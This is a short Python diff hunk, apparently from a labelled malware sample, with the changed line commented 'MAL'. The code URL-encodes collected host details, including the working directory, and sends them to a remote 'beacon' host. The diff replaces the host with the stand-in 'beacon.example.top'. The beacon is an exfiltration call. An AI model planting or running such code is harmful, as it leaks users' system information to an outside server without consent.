@@ -10,4 +10,4 @@ info = {
     "cwd": __import__("os").getcwd(),
 }
 q = urllib.parse.urlencode(info)
-urllib.request.urlopen("http://beacon.top/ping?" + q)  # MAL
+urllib.request.urlopen("http://beacon.example.top/ping?" + q)  # MAL
